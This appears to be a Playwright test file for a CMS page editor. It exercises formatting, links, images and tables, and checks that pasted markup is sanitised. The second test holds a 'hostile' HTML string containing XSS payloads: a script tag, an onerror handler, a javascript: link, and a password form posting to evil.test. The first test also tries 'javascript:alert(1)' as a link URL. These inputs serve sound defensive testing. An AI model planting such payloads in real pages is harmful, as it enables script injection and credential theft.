import type { Locator, Page } from '@playwright/test'

import { expect, test } from '../fixtures/test'

test.beforeEach(async ({ world }) => {
  await world.signInAs('admin')
  await world.setLanguage('en')
})

/** A picture that a phone would upload, in any shape. */
const picture = {
  name: 'plakāts.svg',
  mimeType: 'image/svg+xml',
  buffer: Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="320" height="180"><rect width="320" height="180" fill="#1a6248"/></svg>',
  ),
}

const tool = (page: Page, name: string): Locator =>
  page.getByRole('toolbar', { name: 'Formatting' }).getByRole('button', { name, exact: true })

const content = (page: Page): Locator => page.getByRole('textbox', { name: 'Content' })

test(
  'writes a page with a list, a link and an image, previews it in the dark, and reads it as a guest',
  { tag: ['@each-size', '@every-engine'] },
  async ({ page, world, expectAccessible }) => {
    await page.goto('admin/custom-pages')
    await page.getByRole('link', { name: 'New page' }).click()
    await page.getByRole('textbox', { name: 'Title', exact: true }).fill('Koncerts Jūnijā')
    await expect(page.getByRole('textbox', { name: 'Slug' })).toHaveValue('koncerts-junija')

    await content(page).click()
    await tool(page, 'Heading').click()
    await expect(tool(page, 'Heading')).toHaveAttribute('aria-pressed', 'true')
    await page.keyboard.type('Programma')
    await page.keyboard.press('Enter')
    // One stop of the Tab key, moved through with the arrow keys.
    await page.keyboard.press('Shift+Tab')
    await expect(tool(page, 'Redo')).toBeFocused()
    for (let press = 0; press < 10; press += 1) await page.keyboard.press('ArrowLeft')
    await expect(tool(page, 'Bulleted list')).toBeFocused()
    await page.keyboard.press('Enter')
    await expect(content(page)).toBeFocused()
    await page.keyboard.type('Aijā, žūžū')
    await page.keyboard.press('Enter')
    await page.keyboard.type('Kur tu teci')
    await page.keyboard.press('Enter')
    await page.keyboard.press('Enter')

    await page.keyboard.type('Biļetes: ')
    await page.keyboard.press('Shift+Tab')
    await expect(tool(page, 'Bulleted list'), 'the tool used last').toBeFocused()
    await page.keyboard.press('Tab')
    await expect(content(page)).toBeFocused()
    await tool(page, 'Link').click()
    const link = page.getByRole('dialog', { name: 'Insert link' })
    await link.getByRole('textbox', { name: 'URL' }).fill('javascript:alert(1)')
    await link.getByRole('button', { name: 'Apply' }).click()
    await expect(link.getByText(/^Enter a web address/)).toBeVisible()
    await link.getByRole('textbox', { name: 'URL' }).fill('www.example.com/biletes')
    await link.getByRole('textbox', { name: 'Link text' }).fill('pie draugiem')
    await page.keyboard.press('Enter')
    await page.keyboard.press('Enter')

    await tool(page, 'Image').click()
    const image = page.getByRole('dialog', { name: 'Insert image' })
    await image.getByLabel('Image', { exact: true }).and(page.locator('input')).setInputFiles(picture)
    await image.getByRole('textbox', { name: 'Alternative text' }).fill('Koncerta plakāts')
    await image.getByRole('button', { name: 'Apply' }).click()
    await expect(content(page).getByRole('img', { name: 'Koncerta plakāts' })).toBeVisible()
    await expectAccessible()

    await page.getByRole('tab', { name: 'Preview' }).click()
    await page.getByRole('tab', { name: 'Dark' }).click()
    const preview = page.getByRole('region', { name: 'Preview', exact: true })
    await expect(preview.getByRole('heading', { level: 2, name: 'Programma' })).toBeVisible()
    await expect(preview).toHaveCSS('color-scheme', 'dark')
    await expect(preview).toHaveCSS('background-color', 'rgb(17, 25, 43)')
    await page.getByRole('textbox', { name: 'Description' }).fill('Bērnu dziesmas jūnija vakarā.')
    await page.keyboard.press('Control+s')
    // The preview has the title as a heading before the page is saved.
    await expect(page).toHaveURL(/\/admin\/custom-pages\/\d+/)

    await world.change({ signInAs: 'guest' })
    await page.goto('pages/koncerts-junija')
    const article = page.getByRole('article')
    await expect(article.getByRole('heading', { level: 1, name: 'Koncerts Jūnijā' })).toBeVisible()
    await expect(article.getByRole('heading', { level: 2, name: 'Programma' })).toBeVisible()
    await expect(article.getByRole('listitem')).toHaveText(['Aijā, žūžū', 'Kur tu teci'])
    await expect(article.getByRole('link', { name: 'pie draugiem' })).toHaveAttribute(
      'href',
      'https://www.example.com/biletes',
    )
    const poster = article.getByRole('img', { name: 'Koncerta plakāts' })
    await expect(poster).toHaveJSProperty('naturalWidth', 320)
    await expect(poster).toHaveAttribute('src', /^storage\/page_media\//)
    await expect(page.locator('head meta[name=description]')).toHaveAttribute(
      'content',
      'Bērnu dziesmas jūnija vakarā.',
    )
  },
)

const hostile = `<p id="root" style="position:fixed;inset:0">Sveiki</p><script>window.attacked = true</script>
<img src="images/none.png" alt="Lācis" onerror="window.attacked = true"><style>* { display: none }</style>
<form action="//evil.test"><input name="password"></form><a href="javascript:window.attacked = true">Saite</a>`

type ClipboardContent = { html: string } | { svg: string }

/** Pastes HTML or a file into the focused element, as from another page or a folder. */
const paste = (page: Page, content: ClipboardContent): Promise<void> =>
  page.evaluate((data) => {
    const clipboardData = new DataTransfer()
    if ('html' in data) clipboardData.setData('text/html', data.html)
    else clipboardData.items.add(new File([data.svg], 'bilde.svg', { type: 'image/svg+xml' }))
    const event = new ClipboardEvent('paste', { bubbles: true, cancelable: true })
    // Firefox ignores the data that the constructor is given.
    Object.defineProperty(event, 'clipboardData', { value: clipboardData })
    document.activeElement?.dispatchEvent(event)
  }, content)

test(
  'keeps stored markup as source without running it, asks before dropping it, and restores the draft',
  { tag: '@each-size' },
  async ({ page, expectAccessible }) => {
    await page.goto('admin/custom-pages/3')
    await expect(content(page)).toBeVisible()
    await content(page).click()
    await page.keyboard.press('Control+a')
    await paste(page, { html: hostile })
    await expect(content(page).getByRole('img', { name: 'Lācis' })).toBeAttached()
    await expect(content(page).locator('script, style, form, [style], [onerror], [href]')).toHaveCount(0)

    await paste(page, { svg: picture.buffer.toString() })
    await expect(page.getByRole('dialog', { name: 'Insert image' }).getByText('Uploaded')).toBeAttached()
    await page.keyboard.press('Escape')

    await page.getByRole('tab', { name: 'HTML' }).click()
    await content(page).click()
    await page.keyboard.press('Control+a')
    await page.keyboard.insertText(hostile)
    await expect(page.getByText(/it would remove or change style, id, script, onerror/)).toBeVisible()
    await expectAccessible()
    await expect(page.getByText('Unsaved changes')).toBeVisible()
    await page.keyboard.press('Control+s')
    await expect(page.getByText('Saved')).toBeVisible()
    await page.keyboard.press('Tab')
    await expect(content(page)).toBeFocused()
    await page.keyboard.press('Control+z')
    await page.keyboard.press('Escape')
    await page.keyboard.press('Tab')
    await expect(content(page)).not.toBeFocused()

    await page.reload()
    await expect(page.getByRole('tab', { name: 'HTML' })).toHaveAttribute('aria-selected', 'true')
    await expect(content(page)).toContainText('window.attacked = true')
    await page.getByRole('tab', { name: 'Preview' }).click()
    const preview = page.getByRole('region', { name: 'Preview', exact: true })
    await expect(preview.getByText('Sveiki')).toBeVisible()
    await expect(preview.locator('script, style, form, [onerror], [href]')).toHaveCount(0)

    await page.getByRole('tab', { name: 'Visual' }).click()
    const question = page.getByRole('dialog', { name: /^Remove what the visual editor/ })
    await question.getByRole('button', { name: 'Cancel' }).click()
    await expect(page.getByRole('tab', { name: 'Preview' })).toHaveAttribute('aria-selected', 'true')
    await page.getByRole('tab', { name: 'Visual' }).click()
    await question.getByRole('button', { name: 'Remove and open' }).click()
    await expect(content(page).getByRole('img', { name: 'Lācis' })).toBeAttached()
    await expect(page.getByText('Unsaved changes')).toBeVisible()

    page.once('dialog', (dialog) => void dialog.accept())
    await page.reload()
    await expect(page.getByText('We restored your draft.')).toBeVisible()
    await expect(page.getByRole('tab', { name: 'Visual' })).toHaveAttribute('aria-selected', 'true')
    await page.getByRole('button', { name: 'Discard draft' }).click()
    await expect(page.getByRole('tab', { name: 'HTML' })).toHaveAttribute('aria-selected', 'true')
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false)
  },
)

test('edits a table by keyboard, links a page of the site, and inserts two images at once', async ({
  page,
  expectAccessible,
}) => {
  await page.goto('admin/custom-pages/new')
  await page.getByRole('textbox', { name: 'Title', exact: true }).fill('Nodarbības')
  await content(page).click()
  await tool(page, 'Underline').click()
  await page.keyboard.type('Laiki')
  await expect(content(page).locator('u')).toHaveText('Laiki')

  const choose = async (name: string) => {
    await tool(page, 'Table').press('Enter')
    await page.getByRole('menuitem', { name, exact: true }).press('Enter')
    await expect(content(page)).toBeFocused()
  }
  await choose('Insert table')
  for (const text of ['Diena', 'Stunda', 'Vieta', 'Otrdiena']) {
    await page.keyboard.type(text)
    await page.keyboard.press('Tab')
  }
  await page.keyboard.press('Shift+Tab')
  await choose('Insert row below')
  await choose('Insert column before')
  await choose('Delete row')
  const table = content(page).getByRole('table')
  await expect(table.getByRole('columnheader')).toHaveText(['', 'Diena', 'Stunda', 'Vieta'])
  await expect(table.getByRole('row')).toHaveCount(3)
  await table.getByRole('columnheader').first().click()
  await page.keyboard.type('Grupa')
  await expectAccessible()

  await content(page).getByText('Laiki').click()
  await page.keyboard.press('Home')
  await tool(page, 'Link').click()
  const link = page.getByRole('dialog', { name: 'Insert link' })
  await link.getByRole('combobox', { name: 'Page on this site' }).fill('priv')
  await page.getByRole('option', { name: /^Priv/ }).click()
  await link.getByRole('button', { name: 'Apply' }).click()
  await expect(content(page).getByRole('link')).toHaveAttribute('href', /^\/pages\/priv/)

  await tool(page, 'Image').click()
  const images = page.getByRole('dialog', { name: 'Insert image' })
  const files = ['pirmā.svg', 'otrā.svg'].map((name) => ({ ...picture, name }))
  await images.getByLabel('Image', { exact: true }).and(page.locator('input')).setInputFiles(files)
  await images.getByRole('textbox', { name: 'Alternative text of image 2' }).fill('Otrā bilde')
  await expect(images.getByText('Uploaded')).toHaveCount(2)
  await images.getByRole('button', { name: 'Apply' }).click()
  await expect(content(page).locator('img[src^="storage/page_media/"]')).toHaveCount(2)
  await expect(content(page).getByRole('img', { name: 'Otrā bilde' })).toBeVisible()
})
